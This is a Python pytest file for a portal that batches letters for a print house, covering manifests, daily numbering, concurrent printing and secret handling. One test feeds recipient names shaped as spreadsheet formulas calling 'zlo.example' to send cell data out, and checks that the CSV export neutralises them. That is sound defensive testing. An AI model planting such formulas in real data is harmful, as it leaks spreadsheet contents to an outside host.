"""The print batch: what waits is laid out whole, and the print house finds each letter once."""

from __future__ import annotations

import asyncio
import csv
from datetime import timedelta
from pathlib import Path

import pytest

from portal import clock
from portal.messaging import jobs, print_folder
from portal.messaging.printing import Printed, PrintingAlready, print_letters
from portal.messaging.tables import Attachment, LetterBatch, Message, MessageState
from tests.messaging.paper import text_of
from tests.messaging.post import a_letter, batches_in, names_in, states
from tests.people import NOON
from tests.working import waiting, work_off


async def test_letters_are_laid_out_with_a_manifest(folder: Path) -> None:
    ana = await a_letter(["Ana Žagar", "Čufarjeva ulica 2", "2000 Maribor"])
    bojan = await a_letter(name="termination_notice")

    assert await print_letters(NOON) == [Printed("2026-11-21-1", 2)]

    [batch] = batches_in(folder)
    assert (batch.number, batch.messages) == ("2026-11-21-1", [ana, bojan])
    assert [name[:5] for name in batch.files] == ["0001-", "0002-"]
    first, second = batch.manifest["items"]
    assert first["recipient"] == ["Ana Žagar", "Čufarjeva ulica 2", "2000 Maribor"]
    assert (second["template"], second["language"], second["pages"]) == ("termination_notice", "sl", 2)
    assert "Ana Žagar" in text_of(batch.files[first["file"]])
    assert await states() == {ana: MessageState.PRINTED, bojan: MessageState.PRINTED}


async def test_the_manifest_is_there_as_a_table_too(folder: Path) -> None:
    await a_letter(["Ana; Žagar", 'Ulica "pri vrbi" 2', "2000 Maribor"])
    await print_letters(NOON)
    [batch] = batches_in(folder)

    with (folder / batch.number / "manifest.csv").open(encoding="utf-8-sig", newline="") as table:
        [row] = csv.DictReader(table, delimiter=";")

    assert row["recipient"] == 'Ana; Žagar, Ulica "pri vrbi" 2, 2000 Maribor'
    assert row["sha256"] == batch.manifest["items"][0]["sha256"]


@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
async def test_nobody_s_name_is_a_formula_to_a_spreadsheet(folder: Path, begins: str) -> None:
    name = f'{begins}HYPERLINK("http://zlo.example/"&A1)'
    await a_letter([name, "Glavna ulica 1", "1000 Ljubljana"])
    await print_letters(NOON)

    [batch] = batches_in(folder)
    assert batch.manifest["items"][0]["recipient"][0] == name
    with (folder / batch.number / "manifest.csv").open(encoding="utf-8-sig", newline="") as table:
        [row] = csv.DictReader(table, delimiter=";")
    assert row["recipient"] == f"'{name}, Glavna ulica 1, 1000 Ljubljana"
    assert row["pages"] == "1"


async def test_what_was_printed_is_kept_with_the_message(folder: Path) -> None:
    await a_letter()
    await print_letters(NOON)

    [batch] = batches_in(folder)
    [message] = await Message.objects()
    [kept] = await Attachment.objects()
    assert [bytes(kept.content)] == list(batch.files.values())
    assert kept.name.startswith("Drugi opomin")
    assert kept.name.endswith(".pdf")
    assert "obveznosti po prvem opominu še niso poravnane" in message.body


async def test_of_a_secret_only_the_sheet_is_left(folder: Path) -> None:
    await a_letter(name="welcome", is_secret=True)
    await print_letters(NOON)

    [batch] = batches_in(folder)
    [message] = await Message.objects()
    assert "K7QF-2M4X-9TRW" in text_of(next(iter(batch.files.values())))
    assert message.state == MessageState.PRINTED
    assert (message.body is None, message.values) == (True, "{}")
    assert not await Attachment.exists()
    assert "K7QF" not in (folder / batch.number / "manifest.json").read_text()


async def test_nothing_is_made_of_nothing(folder: Path) -> None:
    assert await print_letters(NOON) == []
    assert names_in(folder) == []
    assert not await LetterBatch.exists()


async def test_batches_hold_so_many_and_are_numbered_by_day(folder: Path) -> None:
    letters = [await a_letter() for _ in range(5)]

    await print_letters(NOON, most=2)
    letters.append(await a_letter())
    await print_letters(NOON + timedelta(hours=1))
    letters.append(await a_letter())
    await print_letters(NOON + timedelta(days=1))

    found = batches_in(folder)
    assert [batch.number for batch in found] == [*(f"2026-11-21-{n}" for n in (1, 2, 3, 4)), "2026-11-22-1"]
    assert [message for batch in found for message in batch.messages] == letters


async def test_a_folder_of_another_time_is_left_alone(folder: Path) -> None:
    (folder / "2026-11-21-1").mkdir()
    await a_letter()

    assert await print_letters(NOON) == [Printed("2026-11-21-2", 1)]


async def test_abroad_the_country_stands_last(folder: Path) -> None:
    await a_letter(["Anna Huber", "Hauptplatz 1", "A-9020 Klagenfurt", "AUSTRIA"])

    assert await print_letters(NOON) == [Printed("2026-11-21-1", 1)]


async def test_two_at_once_print_each_letter_once(folder: Path) -> None:
    letters = {await a_letter() for _ in range(6)}

    outcomes = await asyncio.gather(*(print_letters(NOON, most=2) for _ in range(3)), return_exceptions=True)

    assert sum(isinstance(outcome, PrintingAlready) for outcome in outcomes) == 2
    printed = [message for batch in batches_in(folder) for message in batch.messages]
    assert sorted(printed) == sorted(letters)


async def test_a_letter_decided_meanwhile_waits_for_the_next_batch(folder: Path) -> None:
    await a_letter()
    printing = asyncio.create_task(print_letters(NOON))
    late = await a_letter()
    await printing
    await print_letters(NOON)

    assert set(await states()) == {message for batch in batches_in(folder) for message in batch.messages}
    assert late in await states()


async def test_demo_batches_are_cleared_and_nothing_else(folder: Path) -> None:
    await a_letter()
    await print_letters(NOON)
    for name in (".2026-11-21-2.3f9a01bc.part", "2026-11-racuni", "kept"):
        (folder / name).mkdir()

    print_folder.clear()

    assert names_in(folder) == ["2026-11-racuni", "kept"]


async def test_the_night_s_run_prints(folder: Path) -> None:
    letter = await a_letter()
    with clock.stopped_at(NOON):
        await jobs.print_tonight()
        await jobs.print_tonight()
        await work_off()

    assert batches_in(folder)[0].messages == [letter]
    assert await waiting() == []
